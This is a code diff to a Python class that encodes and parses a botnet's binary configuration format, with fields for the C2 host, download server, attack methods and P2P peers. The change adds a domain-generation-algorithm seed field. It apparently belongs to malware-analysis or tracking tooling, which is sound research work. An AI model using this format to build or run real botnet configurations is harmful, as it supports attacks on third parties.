@@ -35,6 +35,7 @@ TAG_DOWNLOADER = 7     # "host:port" of the loader/download server
 TAG_ATTACKS = 8        # comma-separated attack method names
 TAG_VARIANT = 9
 TAG_P2P_BOOTSTRAP = 10 # comma-separated peer "ip:port" list
+TAG_DGA_SEED = 11      # u32 schedule seed; presence marks a DGA config
 
 
 class ConfigError(ValueError):
@@ -55,11 +56,17 @@ class BotConfig:
     attacks: list[str] = field(default_factory=list)
     variant: str = ""
     p2p_bootstrap: list[str] = field(default_factory=list)
+    dga_seed: int = 0
 
     @property
     def uses_dns(self) -> bool:
         """True when the C2 endpoint is a domain name rather than an IP."""
         return bool(self.c2_host) and not is_ip_literal(self.c2_host)
+
+    @property
+    def uses_dga(self) -> bool:
+        """DGA configs carry a schedule seed instead of a C2 host."""
+        return self.dga_seed != 0
 
     @property
     def is_p2p(self) -> bool:
@@ -96,6 +103,8 @@ class BotConfig:
             put(TAG_VARIANT, self.variant.encode("ascii"))
         if self.p2p_bootstrap:
             put(TAG_P2P_BOOTSTRAP, ",".join(self.p2p_bootstrap).encode("ascii"))
+        if self.dga_seed:
+            put(TAG_DGA_SEED, struct.pack("!I", self.dga_seed))
         return bytes(out)
 
     @classmethod
@@ -134,6 +143,11 @@ class BotConfig:
             if len(fields[TAG_C2_PORT]) != 2:
                 raise ConfigError("bad c2 port field")
             (c2_port,) = struct.unpack("!H", fields[TAG_C2_PORT])
+        dga_seed = 0
+        if TAG_DGA_SEED in fields:
+            if len(fields[TAG_DGA_SEED]) != 4:
+                raise ConfigError("bad dga seed field")
+            (dga_seed,) = struct.unpack("!I", fields[TAG_DGA_SEED])
         return cls(
             family=text(TAG_FAMILY),
             c2_host=text(TAG_C2_HOST),
@@ -145,6 +159,7 @@ class BotConfig:
             attacks=csv(TAG_ATTACKS),
             variant=text(TAG_VARIANT),
             p2p_bootstrap=csv(TAG_P2P_BOOTSTRAP),
+            dga_seed=dga_seed,
         )
 
 
